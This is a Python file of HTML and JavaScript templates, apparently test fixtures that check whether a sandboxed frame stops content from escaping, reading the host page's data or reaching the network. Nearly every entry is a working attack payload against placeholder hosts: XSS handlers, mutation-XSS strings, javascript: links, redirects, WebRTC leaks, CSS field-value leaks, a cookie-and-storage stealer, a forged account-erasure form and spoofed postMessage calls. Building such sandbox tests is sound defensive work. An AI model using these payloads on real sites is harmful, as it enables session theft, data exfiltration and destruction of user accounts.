"""Templates that try to run outside their frame, to read what is ours, or to reach the net.

`NET` stands for an address outside that listens; `OWN` for a page of ours. Each is worked on in a real browser.
"""

PEERS = "<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>"
PEERS_IN_A_PAGE = "`" + PEERS.replace("</script>", "<\\/script>") + "`"
PEERS_IN_A_FRAME = '`<iframe srcdoc="' + PEERS.replace("</script>", "<\\/script>") + '"></iframe>`'

TRIES: dict[str, str] = {
    # Handlers and odd ways to write a script
    "a picture that fails": '<img src=x onerror="parent.document.title=\'taken\';fetch(\'NET/onerror\')">',
    "an SVG that loads": "<svg/onload=\"new Image().src='NET/svg'\"></svg>",
    "an SVG script": "<svg><script>fetch('NET/svgscript')</script></svg>",
    "an SVG that animates its address": '<svg><a><animate attributeName=href values="javascript:top.location=\'NET/a\'"/><text y=20>x</text></a></svg>',
    "an SVG that uses another": '<svg><use href="NET/use.svg#x"/></svg>',
    "an SVG with a foreign object": '<svg><foreignObject><iframe src="NET/foreign"></iframe></foreignObject></svg>',
    "a math link": '<math href="javascript:fetch(\'NET/math\')">x</math>',
    "details that open": "<details open ontoggle=\"navigator.sendBeacon('NET/toggle','x')\">x</details>",
    "a field that takes focus": "<input autofocus onfocus=\"fetch('NET/focus')\" name=a>",
    "a style that ends": "<style>@keyframes x{}</style><p style=\"animation:x 1s\" onanimationstart=\"fetch('NET/animation')\">x</p>",
    "script in capitals and slashes": "<ScRiPt/x>fetch('NET/caps')</sCrIpT >",
    "script inside noscript": "<noscript><p title=\"</noscript><img src=x onerror=fetch('NET/noscript')>\"></noscript>",
    "script inside a template element": "<template><script>fetch('NET/tpl')</script></template><script>document.body.append(document.querySelector('template').content.cloneNode(true))</script>",
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=fetch('NET/mxss')&gt;\">",
    "mutation through a form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=fetch('NET/mxss2') src=x>\">",
    "mutation through a select": "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=fetch('NET/mxss3')>\">x",
    # Addresses that are code
    "a link that is code": "<a id=l href=\"javascript:fetch('NET/js')\">x</a><script>l.click()</script>",
    "a link with blanks in its code": "<a id=l href=\"java&#9;script:parent.location='NET/tab'\">x</a><script>l.click()</script>",
    "a form whose address is code": "<form id=f action=\"javascript:fetch('NET/form')\"></form><script>f.submit()</script>",
    "a button that sends elsewhere": "<form id=f><button id=b formaction='NET/formaction'>x</button></form><script>b.click()</script>",
    "a form that sends to us": "<form id=f method=post action='OWN/account/erasure/'><input name=word value=erase></form><script>HTMLFormElement.prototype.submit.call(f)</script>",
    "a form in a window of ours": "<form id=f method=get target=_top action='NET/top'></form><script>f.submit()</script>",
    # Ways to be led elsewhere
    "a refresh": '<meta http-equiv=refresh content="0;url=NET/refresh">',
    "a refresh that is code": '<meta http-equiv=refresh content="0;url=javascript:fetch(\'NET/refreshjs\')">',
    "a base that is elsewhere": '<base href="NET/"><img src=pixel.gif><script src=code.js></script>',
    "a base whose links lead the window": '<base target=_top><a id=l href="NET/base">x</a><script>l.click()</script>',
    "the window itself": "<script>top.location.replace('NET/top');parent.location='NET/parent';window.open('NET/open','_top')</script>",
    "the frame itself": "<script>location='NET/self'</script>",
    "the frame to a page of ours": "<script>location='OWN/account/data/'</script>",
    "history": "<script>history.pushState({},'','/account/');history.back();history.go(-2)</script>",
    "a new window": "<a id=l target=_blank rel=opener href='NET/blank'>x</a><script>l.click();window.open('NET/window')</script>",
    "a download": "<a id=l download=x.exe href='data:application/octet-stream,MZ'>x</a><script>l.click()</script>",
    "a program of the phone": "<script>location='tel:+5215500000000'</script><iframe src='sms:123'></iframe>",
    # Frames in the frame
    "a frame with its own page": "<iframe srcdoc=\"<script>parent.parent.document.title='taken';fetch('NET/srcdoc')</script>\"></iframe>",
    "a frame that calls peers": "<iframe srcdoc=\"<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>\"></iframe>",
    "a call to peers": "<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>",
    "a frame made by a script that calls peers": f"<script>const d=document.createElement('div');d.innerHTML={PEERS_IN_A_FRAME};document.documentElement.append(d);const i=document.createElement('iframe');i.srcdoc={PEERS_IN_A_PAGE};document.documentElement.append(i)</script>",
    "a frame in a shadow that calls peers": f"<p id=h></p><script>h.attachShadow({{mode:'closed'}}).innerHTML={PEERS_IN_A_FRAME}</script>",
    "a frame in a shadow of HTML that calls peers": f"<p><template ShadowRootMode=closed><iframe srcdoc=\"{PEERS}\"></iframe></template></p><script>document.write('<p><template shadow');document.write('rootmode=open>'+{PEERS_IN_A_FRAME}+'</template></p>');document.body.setHTMLUnsafe?.('<p><template shadowrootmode=open>'+{PEERS_IN_A_FRAME}+'</template></p>')</script>",
    "a frame of code that calls peers": "<iframe src=\"javascript:const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))\"></iframe>",
    "a frame kept by poisoned prototypes that calls peers": f"<script>Element.prototype.remove=Element.prototype.matches=()=>0;Element.prototype.querySelectorAll=Document.prototype.querySelectorAll=()=>[];Object.defineProperty(MutationRecord.prototype,'addedNodes',{{get:()=>[]}});Reflect.apply=Function.prototype.call=Function.prototype.apply=()=>0;window.MutationObserver=class{{observe(){{}}}};</script><iframe srcdoc=\"{PEERS}\"></iframe>",
    "a frame that is data": "<iframe src=\"data:text/html,<script>fetch('NET/data')</script>\"></iframe>",
    "a frame that is a blob": "<script>const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<script>fetch(\"NET/blob\")<\\/script>'],{type:'text/html'}));document.documentElement.append(f)</script>",
    "a frame of ours": "<iframe src='OWN/account/'></iframe>",
    "an object": "<object data='NET/object'></object><embed src='NET/embed'>",
    "an object that is data": "<object data=\"data:text/html,<script>fetch('NET/objectdata')</script>\"></object>",
    "a portal": "<portal src='NET/portal'></portal><fencedframe src='NET/fenced'></fencedframe>",
    # Styles, fonts, sounds, hints
    "a style from elsewhere": "<style>@import 'NET/import.css';</style><style>@import url(//HOST/import2.css);</style>",
    "a picture in a style": "<style>body{background:url(NET/bg.gif)}p::before{content:url(NET/content.gif)}</style><p style='list-style:url(NET/list.gif);cursor:url(NET/c.cur),auto'>x</p>",
    "a style that reads fields": "<style>input[value^=m]{background:url(NET/leak-m)}</style><input name=a value=maiz>",
    "a font from elsewhere": "<style>@font-face{font-family:x;src:url(NET/font.woff2)}p{font-family:x}</style><p>x</p>",
    "a style sheet written in entities": '<link rel=stylesheet href="&#104;ttp://HOST/entities.css">',
    "hints to the browser": '<link rel=preconnect href="&#104;ttp://HOST"><link rel=dns-prefetch href="&#47;/HOST"><link rel=prefetch href="&#104;ttp://HOST/prefetch"><link rel=preload as=image href="&#104;ttp://HOST/preload"><link rel=prerender href="&#104;ttp://HOST/prerender"><link rel=modulepreload href="&#104;ttp://HOST/m.js"><link rel=icon href="&#104;ttp://HOST/icon.png"><link rel=manifest href="&#104;ttp://HOST/manifest.json">',
    "hints made by a script": "<script>for(const r of ['preconnect','prefetch','preload','prerender','dns-prefetch','stylesheet','icon']){const l=document.createElement('link');l.rel=r;l.href='NET/'+r;l.as='image';document.head.append(l)}</script>",
    "rules of speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["NET/speculated"]}],"prerender":[{"source":"list","urls":["NET/prerendered"]}]}</script>',
    "pictures in every way": '<picture><source srcset="NET/set.png 1x"><img src="NET/img.png" srcset="NET/srcset.png 2x"></picture><input type=image src="&#104;ttp://HOST/input.png"><body background="NET/body.png"><table background=NET/table.png><video poster=NET/poster.png src=NET/video.mp4 autoplay></video><audio src=NET/a.mp3 autoplay></audio><track src=NET/t.vtt>',
    "a picture with half a quotation mark": "<img src='NET/dangling?",
    # Programs
    "modules": "<script type=module>import('NET/module.js').catch(()=>{});import 'NET/static.js'</script>",
    "a map of imports": '<script type=importmap>{"imports":{"x":"NET/map.js"}}</script><script type=module>import "x"</script>',
    "workers": "<script>for(const make of [()=>new Worker(URL.createObjectURL(new Blob([\"fetch('NET/worker')\"]))),()=>new SharedWorker('data:text/javascript,fetch(\"NET/shared\")'),()=>navigator.serviceWorker.register('OWN/worker.js')]){try{make()}catch{}}</script>",
    "sockets and streams": "<script>for(const make of [()=>new WebSocket('ws://HOST/ws'),()=>new EventSource('NET/events'),()=>new WebTransport('https://HOST/wt'),()=>navigator.sendBeacon('NET/beacon')]){try{make()}catch{}}</script>",
    "old requests": "<script>const r=new XMLHttpRequest();try{r.open('GET','NET/xhr',false);r.send()}catch{}fetch('NET/keep',{keepalive:true,mode:'no-cors'}).catch(()=>{})</script>",
    "pings": "<a id=l href='#x' ping='NET/ping'>x</a><script>l.click()</script>",
    "reports of broken rules": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri NET/report\"><img src=data:,>",
    "a rule that loosens": '<meta http-equiv=Content-Security-Policy content="default-src *; script-src * \'unsafe-inline\'"><img src="&#104;ttp://HOST/loose.png">',
    # What is ours
    "our cookies and stores": "<script>let got='';for(const read of [()=>document.cookie,()=>parent.document.cookie,()=>localStorage.getItem('secret'),()=>parent.localStorage.secret,()=>indexedDB.open('outbox'),()=>caches.open('x')]){try{got+=read()}catch{}}new Image().src='NET/?'+got</script>",
    "our page's parts": "<script>for(const act of [()=>parent.document.querySelector('#done').remove(),()=>parent.document.body.innerHTML='taken',()=>top.eval('document.title=\"taken\"'),()=>frameElement.removeAttribute('sandbox'),()=>parent.frames[0].location='NET/frames',()=>parent.name='taken']){try{act()}catch{}}</script>",
    "messages that pretend": "<script>for(const kind of ['answers','ready','height','done','eval'])for(const token of ['',null,'x',{toString:()=>'x'}])parent.postMessage({kind,token,answers:{a:'1'},height:1e9,html:'<img src=x onerror=alert(1)>'},'*')</script>",
    "messages without end": "<script>setInterval(()=>{for(let n=0;n<200;n++)parent.postMessage({n},'*')},50)</script>",
    "names that shadow ours": "<form name=forms><input name=submit><input name=elements></form><img name=querySelectorAll><form id=parent></form><a id=document></a><a id=postMessage></a>",
    "prototypes poisoned": "<script>Array.prototype.push=Array.prototype.map=function(){fetch('NET/proto');return[]};Object.prototype.token='x';window.parent=window.top=null</script>",
    "the whole screen and its pointer": "<script>document.onclick=document.onload=()=>0;for(const act of [()=>document.documentElement.requestFullscreen(),()=>document.body.requestPointerLock(),()=>navigator.clipboard.readText(),()=>Notification.requestPermission(),()=>navigator.geolocation.getCurrentPosition(()=>0),()=>navigator.mediaDevices.getUserMedia({audio:true}),()=>print(),()=>alert(1),()=>prompt(1)]){try{act()?.catch?.(()=>{})}catch{}}</script>",
    # What never ends
    "a comment without end": "<!-- <script>fetch('NET/c')</script>",
    "a script without end": "<script>fetch('NET/unended').catch(()=>{}); if (1) {",
    "a text field without end": "</textarea><textarea name=a><script>fetch('NET/textarea')</script>",
    "a title without end": "<title><p>x",
    "a page that ends early": "</form></body></html><script>fetch('NET/after').catch(()=>{})</script><form action='NET/second'>",
    "plain text from here on": "<plaintext><script>fetch('NET/plain')</script>",
    "a frameset": "<frameset cols=50%,*><frame src='NET/frame1'><frame src='OWN/account/'></frameset>",
    "a document written anew": "<script>document.write('<script>fetch(\"NET/write\")<\\/script><iframe src=\"NET/written\"></iframe>');document.close();document.open()</script>",
}  # fmt: skip
